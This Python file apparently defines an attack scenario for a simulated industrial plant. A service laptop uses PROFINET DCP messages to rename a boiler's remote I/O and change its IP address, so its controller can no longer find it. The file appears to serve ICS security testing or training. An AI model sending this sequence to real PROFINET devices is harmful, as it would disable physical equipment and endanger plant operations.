"""The boiler's remote I/O is given another name: at its next start its controller no longer finds it."""

from __future__ import annotations

from typing import TYPE_CHECKING, Final

from interlock.plant.actors.steps import Cast, Wait
from interlock.plant.attacks.scenario import Scenario, Scene
from interlock.plant.machines import BY_NAME
from interlock.plant.protocols import profinet

if TYPE_CHECKING:
    from interlock.plant.actors.steps import Script

__all__ = ["SCENARIO"]


def _script(scene: Scene) -> Script:
    target = BY_NAME["rio-boiler"].end.mac
    xid = scene.draws.number(31)
    yield Cast("vendor-laptop", profinet.IDENTIFY_GROUP, profinet.ETHERTYPE, profinet.identify(xid))
    yield Wait(2.0)
    yield Cast("vendor-laptop", target, profinet.ETHERTYPE, profinet.set_name(xid + 1, "rio-b0iler"))
    yield Wait(1.0)
    moved = profinet.set_ip(xid + 2, bytes((10, 77, 1, 213)), bytes((255, 255, 255, 0)), bytes(4))
    yield Cast("vendor-laptop", target, profinet.ETHERTYPE, moved)


SCENARIO: Final = Scenario(
    name="dcp-rename",
    title="A service laptop gives the boiler's remote I/O another name and address",
    technique="T0836",
    also=("T0855",),
    attacker="vendor-laptop",
    victims=("rio-boiler",),
    harm="The controller loses its inputs and outputs at the next start; the boiler cannot be run.",
    script=_script,
)
